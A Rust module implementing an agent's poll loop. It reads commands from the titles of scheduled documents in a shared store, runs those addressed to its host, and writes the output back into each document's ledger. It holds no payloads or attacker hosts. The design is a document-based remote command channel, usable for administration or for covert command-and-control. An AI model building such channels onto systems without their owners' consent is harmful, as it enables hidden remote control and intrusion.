//! Agent poll loop.
//!
//! Each pass lists the documents scheduled within the poll horizon, picks the
//! tasks addressed to this host that it has not answered yet, runs them, and
//! appends the reply to the document's ledger. Passes never overlap: the next
//! one starts only after the previous pass has written everything back.
//!
//! Write-back is an optimistic compare-and-swap. Between executing a command
//! and writing its reply, another agent may have appended its own block; the
//! store then rejects our stale version, and the reply is re-applied on top of
//! a fresh read, up to `max_write_attempts` times.

use super::executor::CommandExecutor;
use super::shutdown::StopFlag;
use crate::error::{PinboardError, Result};
use crate::protocol::{append_block, decode_title, has_reported, should_execute};
use crate::store::{Document, DocumentStore, TimeWindow};
use chrono::{DateTime, Utc};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Tunables for a [`PollScheduler`].
#[derive(Debug, Clone)]
pub struct SchedulerSettings {
    pub title_prefix: String,
    pub interval: Duration,
    pub horizon: chrono::Duration,
    pub max_write_attempts: u32,
}

impl SchedulerSettings {
    pub fn from_config(config: &crate::config::Config) -> Self {
        Self {
            title_prefix: config.title_prefix.clone(),
            interval: config.poll_interval(),
            horizon: config.poll_horizon(),
            max_write_attempts: config.max_write_attempts,
        }
    }
}

/// Counters for one pass.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PassSummary {
    /// Documents whose title decoded as a task.
    pub tasks: usize,
    pub already_reported: usize,
    pub not_targeted: usize,
    pub executed: usize,
    pub reports_written: usize,
    /// Executed, but a re-read showed this host had reported meanwhile.
    pub reports_superseded: usize,
    pub report_failures: usize,
}

/// What happened to one reply on its way into the ledger.
#[derive(Debug)]
pub enum ReportOutcome {
    Written { version: u64, attempts: u32 },
    AlreadyReported,
    Failed(PinboardError),
}

/// Next pass start times on a fixed grid `origin + k * interval`.
///
/// A pass that overruns its slot is followed immediately by one more pass;
/// the slots it overran are dropped rather than replayed.
#[derive(Debug, Clone)]
pub struct TickSchedule {
    origin: Instant,
    interval: Duration,
    next_slot: u32,
}

impl TickSchedule {
    /// Slot 0 is `origin` itself, taken by the first pass.
    pub fn new(origin: Instant, interval: Duration) -> Self {
        Self {
            origin,
            interval,
            next_slot: 1,
        }
    }

    /// When to start the next pass, given that the previous one ended at `now`.
    pub fn next_pass(&mut self, now: Instant) -> Instant {
        let slot = self.origin + self.interval.saturating_mul(self.next_slot);
        if slot >= now {
            self.next_slot = self.next_slot.saturating_add(1);
            return slot;
        }

        let interval_nanos = self.interval.as_nanos().max(1);
        let elapsed_slots = (now - self.origin).as_nanos() / interval_nanos;
        self.next_slot = u32::try_from(elapsed_slots)
            .unwrap_or(u32::MAX)
            .saturating_add(1);
        now
    }
}

/// Polls a document store on behalf of one host.
pub struct PollScheduler<E> {
    store: Arc<dyn DocumentStore>,
    executor: E,
    host_id: String,
    settings: SchedulerSettings,
}

impl<E: CommandExecutor> PollScheduler<E> {
    pub fn new(
        store: Arc<dyn DocumentStore>,
        executor: E,
        host_id: impl Into<String>,
        settings: SchedulerSettings,
    ) -> Self {
        Self {
            store,
            executor,
            host_id: host_id.into(),
            settings,
        }
    }

    pub fn host_id(&self) -> &str {
        &self.host_id
    }

    pub fn executor(&self) -> &E {
        &self.executor
    }

    /// Run passes until `stop` is requested. With `once`, run a single pass.
    ///
    /// Returns the number of passes run. A failed pass is logged and the loop
    /// carries on at the next tick.
    pub fn run(&mut self, stop: &StopFlag, once: bool) -> u64 {
        let mut ticks = TickSchedule::new(Instant::now(), self.settings.interval);
        let mut passes = 0;

        loop {
            if stop.is_requested() {
                tracing::info!(host = %self.host_id, passes, "stop requested");
                break;
            }

            passes += 1;
            match self.run_pass(Utc::now(), stop) {
                Ok(summary) => log_summary(&self.host_id, &summary),
                Err(e) => tracing::warn!(host = %self.host_id, error = %e, "poll pass failed"),
            }

            if once {
                break;
            }

            let next = ticks.next_pass(Instant::now());
            if stop.sleep(next.saturating_duration_since(Instant::now())) {
                tracing::info!(host = %self.host_id, passes, "stop requested");
                break;
            }
        }

        passes
    }

    /// One scan-execute-writeback pass over documents visible at `now`.
    ///
    /// Only a failed listing fails the pass; per-document store errors are
    /// logged and counted. A stop request ends the pass before the next
    /// document.
    pub fn run_pass(&mut self, now: DateTime<Utc>, stop: &StopFlag) -> Result<PassSummary> {
        let window = TimeWindow::between(now, self.settings.horizon);
        let docs = self.store.list(&window)?;
        let mut summary = PassSummary::default();

        for doc in docs {
            if stop.is_requested() {
                tracing::info!(host = %self.host_id, doc = %doc.id, "stop requested, ending pass early");
                break;
            }

            let Some(task) = decode_title(&self.settings.title_prefix, &doc.title) else {
                continue;
            };
            summary.tasks += 1;

            if has_reported(&doc.body, &self.host_id) {
                summary.already_reported += 1;
                continue;
            }

            if !should_execute(&task.target, &self.host_id) {
                tracing::debug!(doc = %doc.id, target = %task.target, "not targeted at this host");
                summary.not_targeted += 1;
                continue;
            }

            tracing::info!(doc = %doc.id, command = %task.command, form = ?task.form, "executing task");
            let reply = self.executor.execute(&task.command);
            summary.executed += 1;

            match self.report(&doc, &reply) {
                ReportOutcome::Written { version, attempts } => {
                    tracing::info!(doc = %doc.id, version, attempts, "reply recorded");
                    summary.reports_written += 1;
                }
                ReportOutcome::AlreadyReported => {
                    tracing::warn!(doc = %doc.id, "reply dropped, host already reported");
                    summary.reports_superseded += 1;
                }
                ReportOutcome::Failed(e) => {
                    tracing::warn!(doc = %doc.id, error = %e, "failed to record reply");
                    summary.report_failures += 1;
                }
            }
        }

        Ok(summary)
    }

    /// Append `reply` to the ledger of `doc` with compare-and-swap retries.
    ///
    /// Each attempt re-reads the document, so the reply lands on top of
    /// whatever other hosts wrote since `doc` was listed.
    pub fn report(&self, doc: &Document, reply: &str) -> ReportOutcome {
        let max_attempts = self.settings.max_write_attempts.max(1);

        for attempt in 1..=max_attempts {
            let mut current = match self.store.get(&doc.id) {
                Ok(current) => current,
                Err(e) => return ReportOutcome::Failed(e),
            };

            if has_reported(&current.body, &self.host_id) {
                return ReportOutcome::AlreadyReported;
            }

            current.body = append_block(&current.body, &self.host_id, reply);

            match self.store.update(&current) {
                Ok(updated) => {
                    return ReportOutcome::Written {
                        version: updated.version,
                        attempts: attempt,
                    };
                }
                Err(e) if e.is_contention() && attempt < max_attempts => {
                    tracing::debug!(doc = %doc.id, attempt, error = %e, "write contended, retrying");
                }
                Err(e) => return ReportOutcome::Failed(e),
            }
        }

        // Unreachable with max_attempts >= 1: the last attempt always returns.
        ReportOutcome::Failed(PinboardError::StoreError(format!(
            "no write attempt made for document {}",
            doc.id
        )))
    }
}

fn log_summary(host: &str, summary: &PassSummary) {
    if summary.executed > 0 || summary.report_failures > 0 {
        tracing::info!(
            host,
            tasks = summary.tasks,
            executed = summary.executed,
            written = summary.reports_written,
            failures = summary.report_failures,
            "poll pass complete"
        );
    } else {
        tracing::debug!(host, tasks = summary.tasks, "poll pass complete, nothing to do");
    }
}
